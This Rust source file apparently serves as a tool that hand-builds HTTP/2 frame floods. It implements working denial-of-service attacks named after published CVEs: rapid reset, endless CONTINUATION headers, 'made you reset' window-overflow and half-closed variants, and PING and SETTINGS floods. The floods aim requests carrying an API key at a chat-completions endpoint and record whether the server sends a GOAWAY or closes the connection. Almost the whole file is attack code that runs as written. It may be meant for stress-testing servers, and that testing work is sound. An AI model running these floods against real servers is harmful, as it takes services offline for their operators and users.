//! Floods of frames over HTTP/2, written byte by byte: what no client library would send.
//!
//! Sources: RFC 9113 (frames) and RFC 7541 (heads); CVE-2023-44487 (rapid reset), CVE-2024-27316
//! (CONTINUATION), CVE-2025-8671 ("made you reset"), CVE-2019-9512 and -9515 (pings, settings).

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context, Result};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::time::{Instant, MissedTickBehavior, interval, timeout};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const TICK: Duration = Duration::from_millis(1);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What is sent again and again.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Whole requests, each reset at once.
    RapidReset,
    /// One head that never ends.
    Continuation,
    /// Whole requests that the server has to reset, for a window that is too large.
    Overflow,
    /// The same, for a body after its end.
    AfterEnd,
    Ping,
    Settings,
}

impl Kind {
    pub const ALL: [Self; 6] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Overflow,
        Self::AfterEnd,
        Self::Ping,
        Self::Settings,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION",
            Self::Overflow => "made you reset, window",
            Self::AfterEnd => "made you reset, half-closed",
            Self::Ping => "PING",
            Self::Settings => "SETTINGS",
        }
    }
}

/// The request that floods of requests are made of.
#[derive(Debug, Clone)]
pub struct Target {
    pub address: SocketAddr,
    pub host: String,
    pub key: String,
    pub body: String,
}

/// How a flood ended.
#[derive(Debug, Clone, Copy, Default)]
pub struct Outcome {
    /// Written until then.
    pub frames: u64,
    /// The code of a GOAWAY that came.
    pub goaway: Option<u32>,
    /// The other side ended the connection.
    pub is_closed: bool,
}

impl Target {
    /// Floods one connection with so many frames a second until the other side ends it, or for
    /// that long.
    pub async fn flood(&self, kind: Kind, per_second: u64, longest: Duration) -> Result<Outcome> {
        let stream = TcpStream::connect(self.address)
            .await
            .context("connecting")?;
        stream.set_nodelay(true)?;
        let (reader, mut writer) = stream.into_split();
        let mut reading = tokio::spawn(read(reader));
        let start = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        writer.write_all(&start).await.context("the preface")?;
        let mut outcome = Outcome::default();
        let mut script = Script::new(self, kind);
        let mut ticks = interval(TICK);
        ticks.set_missed_tick_behavior(MissedTickBehavior::Skip);
        let began = Instant::now();
        while began.elapsed() < longest && !reading.is_finished() {
            ticks.tick().await;
            let due = began.elapsed().as_micros() as u64 * per_second / 1_000_000;
            let (bytes, frames) = script.next(due.saturating_sub(outcome.frames));
            // Who reads no more is not waited for: the pace would be lost.
            match timeout(longest, writer.write_all(&bytes)).await {
                Ok(Ok(())) => outcome.frames += frames,
                _ => break,
            }
        }
        let ended = timeout(longest, &mut reading).await;
        reading.abort();
        if let Ok(Ok(goaway)) = ended {
            outcome.goaway = goaway;
            outcome.is_closed = true;
        }
        Ok(outcome)
    }

    /// The head of a request, in HPACK without its tables.
    fn head(&self) -> Vec<u8> {
        let mut head = vec![0x83, 0x86];
        head.push(0x04);
        text(&mut head, "/v1/chat/completions");
        head.push(0x01);
        text(&mut head, &self.host);
        head.push(0x00);
        text(&mut head, "x-api-key");
        text(&mut head, &self.key);
        head
    }
}

/// What comes next.
struct Script<'a> {
    target: &'a Target,
    kind: Kind,
    head: Vec<u8>,
    stream: u32,
}

impl<'a> Script<'a> {
    fn new(target: &'a Target, kind: Kind) -> Self {
        Self {
            target,
            kind,
            head: target.head(),
            stream: 1,
        }
    }

    /// About so many frames, as bytes, and how many there are.
    fn next(&mut self, count: u64) -> (Vec<u8>, u64) {
        let (mut bytes, mut written) = (Vec::new(), 0);
        while written < count {
            let frames = self.turn();
            written += frames.len() as u64;
            bytes.extend(frames.concat());
        }
        (bytes, written)
    }

    fn turn(&mut self) -> Vec<Vec<u8>> {
        match self.kind {
            Kind::Ping => vec![frame(PING, 0, 0, b"flooding")],
            Kind::Settings => vec![frame(SETTINGS, 0, 0, &[])],
            Kind::Continuation if self.stream == 1 => {
                self.stream = 3;
                vec![frame(HEADERS, 0, 1, &self.head)]
            }
            Kind::Continuation => {
                let mut more = vec![0x00];
                text(&mut more, "x-more");
                text(&mut more, "0123456789");
                vec![frame(CONTINUATION, 0, 1, &more)]
            }
            Kind::RapidReset => {
                let mut frames = self.request();
                frames.push(frame(RST_STREAM, 0, self.stream - 2, &8_u32.to_be_bytes()));
                frames
            }
            Kind::Overflow => {
                let mut frames = self.request();
                let most = 0x7fff_ffff_u32.to_be_bytes();
                frames.push(frame(WINDOW_UPDATE, 0, self.stream - 2, &most));
                frames
            }
            Kind::AfterEnd => {
                let mut frames = self.request();
                frames.push(frame(DATA, 0, self.stream - 2, b"more"));
                frames
            }
        }
    }

    /// A whole request on a stream of its own.
    fn request(&mut self) -> Vec<Vec<u8>> {
        let stream = self.stream;
        self.stream += 2;
        vec![
            frame(HEADERS, END_HEADERS, stream, &self.head),
            frame(DATA, END_STREAM, stream, self.target.body.as_bytes()),
        ]
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A string literal of HPACK, of less than 127 bytes.
fn text(bytes: &mut Vec<u8>, text: &str) {
    assert!(text.len() < 127, "a longer text needs more bytes of length");
    bytes.push(text.len() as u8);
    bytes.extend(text.as_bytes());
}

/// Reads until the other side closes; gives the code of its GOAWAY.
async fn read(mut reader: OwnedReadHalf) -> Option<u32> {
    let (mut head, mut goaway) = ([0; 9], None);
    while reader.read_exact(&mut head).await.is_ok() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0; length];
        if reader.read_exact(&mut payload).await.is_err() {
            break;
        }
        if let (GOAWAY, [_, _, _, _, code @ ..]) = (head[3], &payload[..])
            && let Some(code) = code.first_chunk()
        {
            goaway = Some(u32::from_be_bytes(*code));
        }
    }
    goaway
}
